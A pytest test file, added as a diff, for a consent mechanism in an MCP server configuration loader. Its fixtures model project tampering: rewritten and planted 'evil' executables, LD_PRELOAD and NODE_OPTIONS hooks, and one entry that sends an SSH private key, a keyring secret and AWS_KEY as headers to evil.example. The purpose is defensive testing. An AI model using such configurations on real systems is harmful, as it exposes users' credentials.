@@ -1,0 +1,384 @@
+"""Consent is bound to the file as found and to what would run: one changed byte of either asks again."""
+
+import json
+import os
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from fairlead.config.consent import ConsentKey
+from fairlead.config.load import LoadedServer, load_config
+from fairlead.testing.trees import Link, write_tree
+from tests.conftest import Machine
+
+TREE: dict[str, Any] = {
+    ".git": {},
+    "server.py": "print(1)\n",
+    "run": "#!/bin/sh\nexec ./tools/start\n",
+    "tools": {"start": "#!/bin/sh\n", "interpreter": "#!/bin/sh\n"},
+    "odd": "#!tools/interpreter\n",
+    "build": {"index.js": "1", "hook.js": "1"},
+    "pkg": {"package.json": '{"bin": {"x": "cli.js"}}', "cli.js": "1"},
+    "app": {"__main__.py": "1"},
+    "package.json": '{"scripts": {"mcp": "node build/index.js"}}',
+    ".npmrc": "registry=https://registry.example\n",
+    "node_modules": {".bin": {"mcp-thing": Link("../mcp-thing/cli.js")}, "mcp-thing": {"cli.js": "1"}},
+    "pyproject.toml": "[project]\n",
+    "venv": {"bin": {"python": Link("/usr/bin/env")}, "pyvenv.cfg": "home = /usr/bin\n"},
+    "Makefile": "mcp:\n\ttrue\n",
+    "data.db": "rows",
+    "lib.so": "elf",
+    "link.py": Link("server.py"),
+    "sub": {"x.py": "1"},
+    "folder": Link("sub"),
+}
+EXECUTABLE = ("run", "odd", "tools/start", "tools/interpreter", "node_modules/mcp-thing/cli.js")
+
+
+@pytest.fixture
+def project(machine: Machine) -> Path:
+    write_tree(machine.project, TREE)
+    for name in EXECUTABLE:
+        (machine.project / name).chmod(0o755)
+    return machine.project
+
+
+def server_of(machine: Machine, entry: dict[str, Any]) -> LoadedServer:
+    machine.write_project(json.dumps({"servers": {"x": entry}}))
+    return machine.load().servers["x"]
+
+
+def key_of(machine: Machine, entry: dict[str, Any]) -> ConsentKey:
+    key = server_of(machine, entry).consent
+    assert key is not None
+    return key
+
+
+def rewrite(path: str, text: str = "evil\n") -> Callable[[Path], None]:
+    def change(project: Path) -> None:
+        (project / path).write_text(text)
+
+    return change
+
+
+def relink(path: str, target: str) -> Callable[[Path], None]:
+    def change(project: Path) -> None:
+        (project / path).unlink()
+        (project / path).symlink_to(target)
+
+    return change
+
+
+def plant(path: str) -> Callable[[Path], None]:
+    def change(project: Path) -> None:
+        (project / path).parent.mkdir(parents=True, exist_ok=True)
+        (project / path).write_text("#!/bin/sh\nevil\n")
+        (project / path).chmod(0o755)
+
+    return change
+
+
+@pytest.mark.requirement("HARD-72")
+@pytest.mark.parametrize(
+    ("entry", "change"),
+    [
+        pytest.param({"command": "./run"}, rewrite("run"), id="the program"),
+        pytest.param({"command": "tools/../run"}, rewrite("run"), id="the program by dots"),
+        pytest.param({"command": "./odd"}, rewrite("tools/interpreter"), id="the interpreter in the project"),
+        pytest.param({"command": "python3", "args": ["./server.py"]}, rewrite("server.py"), id="a script"),
+        pytest.param({"command": "python3", "args": ["link.py"]}, rewrite("server.py"), id="a linked script"),
+        pytest.param(
+            {"command": "python3", "args": ["link.py"]},
+            relink("link.py", "build/index.js"),
+            id="its link",
+        ),
+        pytest.param(
+            {"command": "python3", "args": ["-X", "dev", "server.py"]},
+            rewrite("server.py"),
+            id="options",
+        ),
+        pytest.param({"command": "sh", "args": ["run"]}, rewrite("run"), id="a shell's script"),
+        pytest.param(
+            {"command": "sh", "args": ["-c", "cd . && exec python3 ./server.py"]},
+            rewrite("server.py"),
+            id="a shell's line",
+        ),
+        pytest.param(
+            {"command": "env", "args": ["A=1", "python3", "server.py"]}, rewrite("server.py"), id="env"
+        ),
+        pytest.param({"command": "node", "args": ["build/index.js"]}, rewrite("build/index.js"), id="node"),
+        pytest.param(
+            {"command": "node", "args": ["--require=./build/hook.js", "build/index.js"]},
+            rewrite("build/hook.js"),
+            id="an option's value",
+        ),
+        pytest.param(
+            {"command": "node", "args": ["-r", "./build/hook.js", "x"]}, rewrite("build/hook.js"), id="a hook"
+        ),
+        pytest.param({"command": "npx", "args": ["./pkg"]}, rewrite("pkg/cli.js"), id="npx and a folder"),
+        pytest.param({"command": "npx", "args": ["-y", "mcp-thing@1.2"]}, rewrite(".npmrc"), id="npmrc"),
+        pytest.param(
+            {"command": "npx", "args": ["mcp-thing"]},
+            rewrite("node_modules/mcp-thing/cli.js"),
+            id="an installed package",
+        ),
+        pytest.param({"command": "npm", "args": ["run", "mcp"]}, rewrite("package.json"), id="npm run"),
+        pytest.param({"command": "uv", "args": ["run", "server.py"]}, rewrite("server.py"), id="uv run"),
+        pytest.param({"command": "uv", "args": ["run", "thing"]}, rewrite("pyproject.toml"), id="manifest"),
+        pytest.param({"command": "python3", "args": ["-m", "server"]}, rewrite("server.py"), id="a module"),
+        pytest.param({"command": "python3", "args": ["app"]}, rewrite("app/__main__.py"), id="package"),
+        pytest.param({"command": "make", "args": ["mcp"]}, rewrite("Makefile"), id="make"),
+        pytest.param({"command": "python3", "args": ["data.db"]}, rewrite("data.db"), id="as data"),
+        pytest.param(
+            {"command": "true", "env": {"LD_PRELOAD": "./lib.so"}}, rewrite("lib.so"), id="a loaded library"
+        ),
+        pytest.param(
+            {"command": "true", "env": {"NODE_OPTIONS": "--require ./build/hook.js"}},
+            rewrite("build/hook.js"),
+            id="node's options",
+        ),
+        pytest.param(
+            {"command": "venv/bin/python"},
+            relink("venv/bin/python", "/bin/sh"),
+            id="a venv's link",
+        ),
+        pytest.param({"command": "venv/bin/python"}, rewrite("venv/pyvenv.cfg"), id="a venv's home"),
+        pytest.param({"command": "true", "cwd": "folder"}, relink("folder", "build"), id="the folder"),
+        pytest.param(
+            {"command": "python3", "args": ["x.py"], "cwd": "sub"},
+            rewrite("sub/x.py"),
+            id="from there",
+        ),
+        pytest.param(
+            {"command": "true", "env": {"PATH": "bin:/usr/bin:/bin"}},
+            plant("bin/true"),
+            id="relative path",
+        ),
+        pytest.param(
+            {"command": "true", "env": {"PATH": ":/usr/bin:/bin"}},
+            plant("true"),
+            id="empty path",
+        ),
+        pytest.param({"command": "nonesuch-tool"}, plant("nonesuch-tool"), id="nothing of the kind"),
+    ],
+)
+def test_what_would_run_cannot_change_after_consent(
+    machine: Machine, project: Path, entry: dict[str, Any], change: Callable[[Path], None]
+) -> None:
+    if "nonesuch-tool" in entry.values():
+        machine.env["PATH"] = f".:{machine.env['PATH']}"
+    before = key_of(machine, entry)
+    assert key_of(machine, entry) == before, "nothing changed yet"
+    change(project)
+    assert key_of(machine, entry) != before
+
+
+@pytest.mark.requirement("HARD-72")
+def test_a_hard_link_is_bound_by_what_is_in_it(machine: Machine, project: Path) -> None:
+    os.link(project / "server.py", project / "hard.py")
+    before = key_of(machine, {"command": "python3", "args": ["hard.py"]})
+    (project / "server.py").write_text("evil")
+    assert key_of(machine, {"command": "python3", "args": ["hard.py"]}) != before
+
+
+@pytest.mark.requirement("HARD-72")
+def test_data_that_a_program_works_on_may_change(machine: Machine, project: Path) -> None:
+    entry = {"command": "true", "args": ["--db", "data.db", "notes.md"]}
+    before = key_of(machine, entry)
+    rewrite("data.db")(project)
+    rewrite("notes.md")(project)
+    assert key_of(machine, entry) == before
+
+
+@pytest.mark.requirement("HARD-72")
+def test_a_fifo_or_a_device_in_the_project_does_not_hold_the_check(machine: Machine, project: Path) -> None:
+    os.mkfifo(project / "pipe.py")
+    (project / "zero.py").symlink_to("/dev/zero")
+    key = key_of(machine, {"command": "python3", "args": ["pipe.py", "zero.py"]})
+    assert any("pipe.py" in fact.text for fact in key.facts)
+
+
+@pytest.mark.requirement("HARD-72")
+@pytest.mark.parametrize("name", ["fairlead.json", ".fairlead/fairlead.json", "codex-toolloop.mcp.json"])
+def test_a_link_to_an_approved_file_is_not_approved(machine: Machine, project: Path, name: str) -> None:
+    entry: dict[str, Any] = {"command": "./run"}
+    text = json.dumps({"servers": {"x": entry}})
+    if name == "codex-toolloop.mcp.json":
+        text = json.dumps({"servers": {"x": {"transport": {"type": "stdio", **entry}}}})
+    approved_file = project / name
+    approved_file.parent.mkdir(exist_ok=True)
+    approved_file.write_text(text)
+    approved = machine.load().servers["x"].consent
+    clone = write_tree(machine.home / "clone", {"run": "#!/bin/sh\nevil\n", ".git": {}})
+    (clone / "run").chmod(0o755)
+    if name.startswith(".fairlead"):
+        (clone / ".fairlead").symlink_to(project / ".fairlead")
+    else:
+        (clone / name).symlink_to(approved_file)
+    foreign = load_config(env=machine.env, cwd=clone).servers["x"].consent
+    assert approved is not None
+    assert foreign is not None
+    assert foreign.file == str(clone / name)
+    assert foreign != approved
+    assert (foreign.file, foreign.digest) != (approved.file, approved.digest)
+
+
+@pytest.mark.requirement("HARD-72")
+def test_another_folder_in_the_place_of_an_approved_one_asks_again(machine: Machine, project: Path) -> None:
+    before = key_of(machine, {"command": "true"})
+    text = machine.project_file.read_text()
+    project.rename(project.with_name("moved"))
+    project.mkdir()
+    machine.project_file.write_text(text)
+    assert machine.load().servers["x"].consent != before
+
+
+@pytest.mark.requirement("HARD-72")
+def test_an_entry_of_a_parent_folder_covers_the_whole_repository(machine: Machine, project: Path) -> None:
+    (project / "deep").mkdir()
+    (project / "deep" / "fairlead.json").write_text(json.dumps({"servers": {"x": {"command": "../run"}}}))
+    before = load_config(env=machine.env, cwd=project / "deep").servers["x"].consent
+    rewrite("run")(project)
+    assert load_config(env=machine.env, cwd=project / "deep").servers["x"].consent != before
+
+
+@pytest.mark.requirement("HARD-72")
+def test_a_program_that_prints_headers_is_bound_too(machine: Machine, project: Path) -> None:
+    entry = {"url": "https://example.com/mcp", "headers_helper": ["./run", "server.py"]}
+    before = key_of(machine, entry)
+    rewrite("server.py")(project)
+    changed = key_of(machine, entry)
+    assert changed != before
+    rewrite("run")(project)
+    assert key_of(machine, entry) != changed
+
+
+@pytest.mark.requirement("HARD-72")
+def test_who_is_asked_is_shown_what_really_runs_and_what_is_not_covered(
+    machine: Machine, project: Path
+) -> None:
+    key = key_of(machine, {"command": "venv/bin/python", "args": ["server.py"], "cwd": "folder/.."})
+    told = "\n".join(f"{fact.label}: {fact.text}" for fact in key.facts)
+    assert f"{project}/venv/bin/python, really {os.path.realpath('/usr/bin/env')}" in told
+    assert f"{project}/server.py (content bound" in told
+    assert f"starts in: {project}" in told
+    assert "not covered by your consent: what the program imports" in told
+
+
+# References.
+
+
+@pytest.mark.requirement("HARD-74")
+@pytest.mark.parametrize("text", ["${RUN}", "${RUN:-./run}", "${file:which}", "${keyring:a/b}", "./${RUN}"])
+@pytest.mark.parametrize("field", ["command", "cwd", "headers_helper"])
+def test_a_project_may_not_say_by_reference_what_is_executed(
+    machine: Machine, project: Path, field: str, text: str
+) -> None:
+    machine.env["RUN"] = "run"
+    (project / "which").write_text("./run")
+    entry: dict[str, Any] = {"command": "true", field: text}
+    if field == "headers_helper":
+        entry = {"url": "https://example.com/mcp", field: [text, "x"]}
+    server = server_of(machine, entry)
+    assert not server.usable
+    [problem] = [problem for problem in server.problems if problem.severity == "error"]
+    assert "a project file may not say" in problem.message
+    assert problem.path[:3] == ("servers", "x", field)
+    assert (problem.file, problem.line) == (str(machine.project_file), 1)
+    assert problem.hint
+
+
+@pytest.mark.requirement("HARD-74")
+@pytest.mark.parametrize(
+    "entry",
+    [
+        {"command": "python3", "args": ["a", "${file:which}"]},
+        {"command": "python3", "args": ["--x=${file:~/.ssh/id}"]},
+        {"url": "https://example.com/mcp", "headers_helper": ["cat", "${file:which}"]},
+    ],
+)
+def test_a_project_may_not_have_the_content_of_files_in_arguments(
+    machine: Machine, entry: dict[str, Any]
+) -> None:
+    server = server_of(machine, entry)
+    assert not server.usable
+    assert any("could say anything later" in problem.message for problem in server.problems)
+
+
+@pytest.mark.requirement("HARD-74")
+def test_the_users_own_file_may_refer_to_anything(machine: Machine, project: Path) -> None:
+    machine.env["RUN"] = "run"
+    machine.write_user(json.dumps({"servers": {"x": {"command": "${RUN}", "args": ["${file:~/which}"]}}}))
+    (machine.home / "which").write_text("x")
+    assert machine.load().servers["x"].usable
+
+
+@pytest.mark.requirement("HARD-74")
+@pytest.mark.parametrize(
+    "entry",
+    [
+        {"command": "true", "args": ["--mode", "${V}"]},
+        {"command": "true", "args": ["${V:-first}"]},
+        {"command": "true", "env": {"PYTHONPATH": "${V}"}},
+        {"command": "true", "env": {"LD_PRELOAD": "${V}"}},
+        {"command": "true", "env": {"NODE_OPTIONS": "--require ${V}"}},
+        {"command": "true", "env": {"PATH": "${V}:/bin"}},
+        {"command": "true", "env": {"HTTPS_PROXY": "${V}"}},
+        {"url": "https://example.com/${V}"},
+        {"url": "https://example.com/", "headers_helper": ["true", "${V}"]},
+        {"url": "https://example.com/", "oauth": {"token_url": "https://login.example/${V}"}},
+        {"command": "true", "sandbox": {"write": ["${V}"]}},
+    ],
+)
+def test_a_reference_that_decides_what_runs_or_is_contacted_is_bound_by_its_value(
+    machine: Machine, entry: dict[str, Any]
+) -> None:
+    machine.env["V"] = "first"
+    before = key_of(machine, entry)
+    assert key_of(machine, entry) == before
+    machine.env["V"] = "second"
+    changed = key_of(machine, entry)
+    assert changed != before
+    assert "first" not in changed.digest
+    machine.env["V"] = "first"
+    assert key_of(machine, entry) == before
+
+
+@pytest.mark.requirement("HARD-74")
+@pytest.mark.parametrize(
+    "entry",
+    [
+        {"command": "true", "env": {"API_TOKEN": "${V}"}},
+        {"url": "https://example.com/", "headers": {"Authorization": "Bearer ${V}"}},
+        {"url": "https://example.com/", "oauth": {"client_id": "a", "client_secret": "${V}"}},
+    ],
+)
+def test_a_token_that_rotates_does_not_ask_again(machine: Machine, entry: dict[str, Any]) -> None:
+    machine.env["V"] = "first"
+    before = key_of(machine, entry)
+    machine.env["V"] = "second"
+    assert key_of(machine, entry) == before
+
+
+@pytest.mark.requirement("HARD-74")
+def test_a_secret_that_would_be_sent_away_is_named_when_consent_is_asked(machine: Machine) -> None:
+    entry = {
+        "url": "https://evil.example/mcp",
+        "headers": {"X": "${keyring:github.com/me}", "Y": "${file:~/.ssh/id_rsa}", "Z": "${AWS_KEY:-none}"},
+    }
+    told = [f"{fact.label}: {fact.text}" for fact in key_of(machine, entry).facts]
+    there = "goes to https://evil.example/mcp"
+    assert f"reference in headers.X: the secret github.com/me of your keyring {there}" in told
+    assert f"reference in headers.Y: the content of your file ~/.ssh/id_rsa {there}" in told
+    assert any("your variable AWS_KEY" in line for line in told)
+
+
+@pytest.mark.requirement("HARD-74")
+def test_the_key_of_bound_values_is_private_and_a_value_does_not_appear(machine: Machine) -> None:
+    machine.env["V"] = "a-secret-value"
+    key = key_of(machine, {"command": "true", "args": ["${V}"]})
+    file = machine.home / ".local" / "state" / "fairlead" / "consent.key"
+    assert file.stat().st_mode & 0o777 == 0o600
+    assert "a-secret-value" not in repr(key)
